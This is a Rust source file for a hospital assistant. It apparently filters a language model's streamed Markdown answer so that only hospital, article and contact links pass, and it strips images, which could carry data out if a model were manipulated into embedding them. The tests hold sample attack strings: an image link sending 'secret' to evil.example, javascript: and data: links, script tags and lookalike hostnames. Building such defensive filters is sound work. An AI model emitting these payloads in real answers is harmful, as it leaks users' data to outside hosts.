//! Where a model's words may lead: to what the hospital publishes, and nowhere else. Images are never let through, since a
//! browser fetches them unasked, and with their address goes whatever a model was talked into putting there.

use kuzushi_domain::{config::Contact, origin::OriginPattern};
use reqwest::Url;

use crate::knowledge::{Candidate, Knowledge};

/// What stands in place of an address that leads elsewhere.
pub const LEFT_OUT: &str = "[\u{2026}]";
/// Characters that wait for a bracket to close. A label that is longer is text.
const LONGEST_LABEL: usize = 400;
/// Characters of an address that are looked at. One that is longer is left out.
const LONGEST_ADDRESS: usize = 2_048;
/// What begins an address at the beginning of a word.
const BEGINNINGS: [&str; 4] = ["http://", "https://", "www.", "//"];
/// What tells an address in the middle of a word.
const AFTER_SCHEME: &str = "://";

/// Addresses that an answer may link to.
#[derive(Debug, Default)]
pub struct AllowedLinks {
    /// Sites of the hospital.
    sites: Vec<OriginPattern>,
    /// Where the articles are published that the model got.
    articles: Vec<String>,
    /// Telephone and mail addresses, as the hospital or its articles link them.
    contacts: Vec<String>,
}

impl AllowedLinks {
    pub fn new(sites: &[OriginPattern], contact: &Contact) -> Self {
        let numbers = [&contact.phone, &contact.emergency_number].map(|number| digits(number));
        let contacts = numbers.into_iter().filter(|number| !number.is_empty()).map(|number| format!("tel:{number}"));
        Self { sites: sites.to_vec(), articles: Vec::new(), contacts: contacts.collect() }
    }

    /// Adds what passages that the model gets link, and where they are published.
    pub fn add(&mut self, knowledge: &Knowledge, sources: &[Candidate]) {
        self.articles.extend(sources.iter().filter_map(|source| knowledge.article(source.article).url.clone()));
        let passages = sources.iter().map(|source| knowledge.passage(source.passage));
        let texts = passages.flat_map(|passage| &passage.blocks).flat_map(|block| block.pieces());
        self.contacts.extend(texts.flat_map(linked_contacts));
    }

    fn allows(&self, address: &str) -> bool {
        // Only characters on whose meaning everything that draws links agrees.
        let is_plain = |character: char| character.is_alphanumeric() || "-._~:/?#@!$&+,;=%".contains(character);
        if !address.chars().all(is_plain) {
            return false;
        }
        let page = address.split('#').next().unwrap_or(address);
        if self.articles.iter().any(|article| article.split('#').next() == Some(page)) {
            return true;
        }
        if address.starts_with("tel:") || address.starts_with("mailto:") {
            let number = format!("tel:{}", digits(address));
            return self.contacts.iter().any(|contact| contact == address || *contact == number);
        }
        let absolute = if address.starts_with("www.") { format!("https://{address}") } else { address.to_owned() };
        Url::parse(&absolute).is_ok_and(|url| {
            let origin = url.origin().ascii_serialization();
            url.username().is_empty() && url.password().is_none() && self.sites.iter().any(|site| site.matches(&origin))
        })
    }
}

fn digits(text: &str) -> String {
    text.chars().filter(char::is_ascii_digit).collect()
}

/// Telephone and mail addresses that a text in Markdown links.
fn linked_contacts(markdown: &str) -> impl Iterator<Item = String> {
    markdown.split("](").skip(1).filter_map(|rest| {
        let address = rest.split([')', ' ']).next()?;
        (address.starts_with("tel:") || address.starts_with("mailto:")).then(|| address.to_owned())
    })
}

/// Reads a text that comes in pieces, and leaves out what leads elsewhere.
#[derive(Debug)]
pub struct SafeLinks {
    allowed: AllowedLinks,
    reading: Reading,
    /// What is looked at before it is passed on: the beginning of an address, or one.
    held: String,
    /// Brackets that are open, each with the text in it so far.
    open: Vec<Bracket>,
    /// The character before, which tells where a word begins.
    before: char,
    passed: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reading {
    Text,
    /// An exclamation mark, which makes an image of a bracket.
    Exclamation,
    /// A sign that makes markup of the letter behind it.
    LessThan,
    /// What may become an address.
    Beginning,
    Address,
    /// A bracket has just closed. Whether right behind an address.
    Closed {
        after_address: bool,
    },
    /// What stands between the round brackets of a link.
    Destination,
}

#[derive(Debug)]
struct Bracket {
    text: String,
    is_image: bool,
}

/// Whether a character of a text may be the first that has to be looked at.
fn may_begin(character: char) -> bool {
    matches!(character, '[' | ']' | '!' | '<' | ':' | '/' | 'h' | 'H' | 'w' | 'W')
}

impl SafeLinks {
    pub fn new(allowed: AllowedLinks) -> Self {
        Self {
            allowed,
            reading: Reading::Text,
            held: String::new(),
            open: Vec::new(),
            before: ' ',
            passed: String::new(),
        }
    }

    /// Allows what more passages link, and where they are published.
    pub fn allow(&mut self, knowledge: &Knowledge, sources: &[Candidate]) {
        self.allowed.add(knowledge, sources);
    }

    /// The next piece, as far as it is known to be harmless.
    pub fn pass(&mut self, piece: &str) -> String {
        let mut rest = piece;
        while !rest.is_empty() {
            if self.reading == Reading::Text {
                // Most of a text can begin nothing: it is passed on by the word.
                let (plain, others) = rest.split_at(rest.find(may_begin).unwrap_or(rest.len()));
                if !plain.is_empty() {
                    self.push(plain);
                }
                rest = others;
            }
            let mut characters = rest.chars();
            if let Some(character) = characters.next() {
                self.take(character);
            }
            rest = characters.as_str();
        }
        std::mem::take(&mut self.passed)
    }

    /// What still waits at the end of the text.
    pub fn finish(&mut self) -> String {
        match self.reading {
            Reading::Address => self.end_address(),
            Reading::Closed { .. } => self.close_without_address(),
            Reading::Destination => self.close_link(false),
            Reading::LessThan | Reading::Exclamation | Reading::Beginning | Reading::Text => self.let_go(),
        }
        self.reading = Reading::Text;
        self.flush_brackets();
        std::mem::take(&mut self.passed)
    }

    fn take(&mut self, character: char) {
        match self.reading {
            Reading::Text => self.take_text(character),
            Reading::Exclamation => {
                self.reading = Reading::Text;
                if character == '[' {
                    self.held.clear();
                    self.open(true);
                } else {
                    self.let_go();
                    self.take_text(character);
                }
            }
            Reading::LessThan => {
                self.reading = Reading::Text;
                let is_markup = character.is_alphabetic() || matches!(character, '/' | '!' | '?');
                if is_markup {
                    self.held.clear();
                    self.before = ' ';
                } else {
                    self.let_go();
                }
                self.take_text(character);
            }
            Reading::Beginning => self.take_beginning(character),
            Reading::Address => self.take_address(character),
            Reading::Closed { after_address } => {
                if character == '(' {
                    self.held.clear();
                    self.reading = Reading::Destination;
                    return;
                }
                self.close_without_address();
                if after_address && !character.is_whitespace() {
                    self.push(" ");
                }
                self.take_text(character);
            }
            Reading::Destination if character == ')' => {
                let address = self.held.trim().split(char::is_whitespace).next().unwrap_or_default();
                let is_allowed = self.allowed.allows(address);
                self.held = address.to_owned();
                self.close_link(is_allowed);
            }
            Reading::Destination if self.held.len() > LONGEST_ADDRESS => {
                self.close_link(false);
                self.take_text(character);
            }
            Reading::Destination => self.held.push(character),
        }
    }

    fn take_text(&mut self, character: char) {
        let starts_word = !self.before.is_alphanumeric();
        match character {
            '[' => self.open(false),
            ']' => self.close(false),
            '!' | '<' => {
                self.held.push(character);
                self.reading = if character == '!' { Reading::Exclamation } else { Reading::LessThan };
            }
            ':' => self.begin(character),
            '/' | 'h' | 'H' | 'w' | 'W' if starts_word => self.begin(character),
            _ => self.push_character(character),
        }
    }

    fn open(&mut self, is_image: bool) {
        self.before = '[';
        self.open.push(Bracket { text: String::new(), is_image });
        self.limit_brackets();
    }

    fn begin(&mut self, character: char) {
        self.held.push(character);
        self.reading = Reading::Beginning;
    }

    fn take_beginning(&mut self, character: char) {
        self.held.push(character);
        let lower = self.held.to_ascii_lowercase();
        if BEGINNINGS.contains(&lower.as_str()) || lower == AFTER_SCHEME {
            self.reading = Reading::Address;
        } else if !BEGINNINGS.iter().chain([&AFTER_SCHEME]).any(|beginning| beginning.starts_with(&lower)) {
            self.held.pop();
            self.let_go();
            self.reading = Reading::Text;
            self.take_text(character);
        }
    }

    fn take_address(&mut self, character: char) {
        let closes = character == ']' && !self.open.is_empty();
        if character.is_whitespace() || matches!(character, '<' | '>' | '"' | '`') || closes {
            self.end_address();
            self.reading = Reading::Text;
            if closes { self.close(true) } else { self.take_text(character) }
        } else if self.held.len() < LONGEST_ADDRESS {
            self.held.push(character);
        } else if !self.held.ends_with('\\') {
            // Nothing that is allowed holds this character.
            self.held.push('\\');
        }
    }

    fn end_address(&mut self) {
        let held = std::mem::take(&mut self.held);
        let address = held.trim_end_matches(|character: char| ".,;:!?*_'~)]}|".contains(character));
        let leads_somewhere = address.contains(char::is_alphanumeric);
        self.push(if leads_somewhere && !self.allowed.allows(address) { LEFT_OUT } else { address });
        let rest = &held[address.len()..];
        // A bracket may still close a link.
        self.push(&rest.replace(']', ""));
    }

    fn close(&mut self, after_address: bool) {
        self.before = ']';
        self.reading = Reading::Closed { after_address };
    }

    /// Brackets that were no link: as they stand, but for the mark of an image.
    fn close_without_address(&mut self) {
        self.reading = Reading::Text;
        match self.open.pop() {
            Some(bracket) => self.push(&format!("[{}]", bracket.text)),
            None => self.push("]"),
        }
    }

    /// A link that may be one; otherwise its label.
    fn close_link(&mut self, is_allowed: bool) {
        self.reading = Reading::Text;
        let address = std::mem::take(&mut self.held);
        match self.open.pop() {
            Some(Bracket { text, is_image: false }) if is_allowed => self.push(&format!("[{text}]({address})")),
            Some(bracket) => self.push(&bracket.text),
            // Where the label had become too long there is no link to make.
            None => self.push("] "),
        }
    }

    /// Passes on what was held after all.
    fn let_go(&mut self) {
        let held = std::mem::take(&mut self.held);
        self.push(&held);
    }

    fn push_character(&mut self, character: char) {
        self.push(character.encode_utf8(&mut [0; 4]));
    }

    fn push(&mut self, text: &str) {
        self.before = text.chars().next_back().unwrap_or(self.before);
        match self.open.last_mut() {
            Some(bracket) => {
                bracket.text.push_str(text);
                self.limit_brackets();
            }
            None => self.passed.push_str(text),
        }
    }

    fn limit_brackets(&mut self) {
        let waiting: usize = self.open.iter().map(|bracket| bracket.text.len() + 1).sum();
        if waiting > LONGEST_LABEL {
            self.flush_brackets();
        }
    }

    fn flush_brackets(&mut self) {
        for bracket in std::mem::take(&mut self.open) {
            self.passed.push('[');
            self.passed.push_str(&bracket.text);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> AllowedLinks {
        AllowedLinks {
            sites: ["https://www.hospital.example", "https://*.clinic.example"]
                .map(|site| site.parse().expect("a pattern"))
                .to_vec(),
            articles: vec!["/demo/articles/parking".into(), "https://articles.example/visiting#hours".into()],
            contacts: vec!["tel:4195550100".into(), "mailto:records@hospital.example".into()],
        }
    }

    fn in_pieces<'a>(pieces: impl Iterator<Item = &'a str>) -> String {
        let mut links = SafeLinks::new(allowed());
        let mut passed: String = pieces.map(|piece| links.pass(piece)).collect();
        passed.push_str(&links.finish());
        passed
    }

    /// What is passed on, which must not depend on how the text is cut.
    fn passed(text: &str) -> String {
        let whole = in_pieces(std::iter::once(text));
        let characters: Vec<String> = text.chars().map(String::from).collect();
        assert_eq!(in_pieces(characters.iter().map(String::as_str)), whole, "{text}");
        for (cut, _) in text.char_indices() {
            assert_eq!(in_pieces([&text[..cut], &text[cut..]].into_iter()), whole, "{text}");
        }
        whole
    }

    #[test]
    fn what_leads_to_the_hospital_stays_to_the_letter() {
        for text in [
            "Plain text: why, who, 2/3 and/or \u{201e}wie\u{201c} http and www, a < b, x <3! What?!",
            "See [parking](/demo/articles/parking) and [hours](https://articles.example/visiting#sunday).",
            "[Visit](https://www.hospital.example/visit?a=b#c), https://www.hospital.example/a.",
            "**https://www.hospital.example/a** (https://north.clinic.example)",
            "Call [us](tel:4195550100), [us](tel:+419-555-0100) or [write](mailto:records@hospital.example).",
            "[https://www.hospital.example](https://www.hospital.example)",
            "www.hospital.example",
            "a [b] c[1] [ ] [open",
            "- [ ] one\n- [x] two",
        ] {
            assert_eq!(passed(text), text);
        }
    }

    #[test]
    fn what_leads_elsewhere_is_left_out() {
        for (text, expected) in [
            ("[Sign in](https://evil.example/login) now", "Sign in now"),
            ("See https://evil.example/a?b=c.", "See [\u{2026}]."),
            ("HTTPS://EVIL.example, Www.evil.example", "[\u{2026}], [\u{2026}]"),
            ("<https://evil.example>", "[\u{2026}]>"),
            ("a //evil.example/x b", "a [\u{2026}] b"),
            ("ftp://evil.example", "ftp[\u{2026}]"),
            ("xhttps://evil.example", "xhttps[\u{2026}]"),
            ("[x](javascript:alert(1))", "x)"),
            ("[x](data:text/html,hi)", "x"),
            ("[x](//evil.example)", "x"),
            ("[x](/demo/articles/other)", "x"),
            ("[x](\n https://evil.example\n 'title')", "x"),
            ("[x](<https://evil.example>)", "x"),
            ("[x](tel:900123)", "x"),
            ("[x](mailto:evil@evil.example)", "x"),
            ("[x]: https://evil.example", "[x]: [\u{2026}]"),
            ("[https://evil.example](https://www.hospital.example)", "[[\u{2026}]](https://www.hospital.example)"),
            ("[a [b](https://evil.example) c](https://evil.example)", "a b c"),
            ("[x](https://evil.example", "x"),
        ] {
            assert_eq!(passed(text), expected, "{text}");
        }
    }

    #[test]
    fn an_address_that_only_looks_like_the_hospitals_is_left_out() {
        for address in [
            "https://www.hospital.example@evil.example/",
            "https://www.hospital.example:443@evil.example/",
            "https://www.hospital.example.evil.example/",
            "http://www.hospital.example/",
            "https://www.hospital.example\\@evil.example",
            "https://www.hospital.example(@evil.example",
            "https://www.hospital.example*@evil.example",
            "https://www.hospital.example]@evil.example",
            "https://evil.example*.clinic.example",
            "https://evil.example/*.clinic.example",
            "https://evil.example#.clinic.example",
            "https://www.hospital.example\u{3002}evil.example",
        ] {
            let text = passed(address);
            assert!(!text.contains("evil") && text.contains('\u{2026}'), "{address}: {text}");
            let text = passed(&format!("[x]({address})"));
            assert!(!text.contains("]("), "{address}: {text}");
        }
    }

    #[test]
    fn images_and_markup_are_never_passed_on() {
        for (text, expected) in [
            ("![secret](https://evil.example/?q=secret)", "secret"),
            ("![ours](https://www.hospital.example/pixel.png)", "ours"),
            ("![ours](/demo/articles/parking)", "ours"),
            ("[![a](https://evil.example/a.png)](https://evil.example)", "a"),
            ("![a][b] ![c", "[a][b] [c"),
            ("<img src=//evil.example/x.png>", "img src=[\u{2026}]>"),
            ("<a href=\"https://evil.example\">x</a>", "a href=\"[\u{2026}]\">x/a>"),
            ("<!-- x --><script>", "!-- x -->script>"),
        ] {
            assert_eq!(passed(text), expected, "{text}");
        }
    }

    #[test]
    fn nothing_grows_without_end() {
        let long = "a".repeat(10_000);
        for text in [
            format!("[{long}](https://evil.example)"),
            format!("https://www.hospital.example/{long}"),
            format!("[x](https://www.hospital.example/{long})"),
            "[".repeat(10_000),
            "![".repeat(10_000),
            "](".repeat(10_000),
        ] {
            let mut links = SafeLinks::new(allowed());
            let mut text_passed = String::new();
            for character in text.chars() {
                text_passed.push_str(&links.pass(character.encode_utf8(&mut [0; 4])));
                let waiting: usize = links.open.iter().map(|bracket| bracket.text.len() + 1).sum();
                assert!(waiting + links.held.len() < 3_000);
            }
            text_passed.push_str(&links.finish());
            assert!(!text_passed.contains("](") && !text_passed.contains("example/"), "{}", &text[..20]);
        }
    }

    #[test]
    fn words_are_not_held_back() {
        let mut links = SafeLinks::new(allowed());
        assert_eq!(links.pass("The wards"), "The wards");
        assert_eq!(links.pass(" open"), " open");
        assert_eq!(links.pass(" at 10: no h"), " at 10: no ");
        assert_eq!(links.pass("ere"), "here");
    }
}
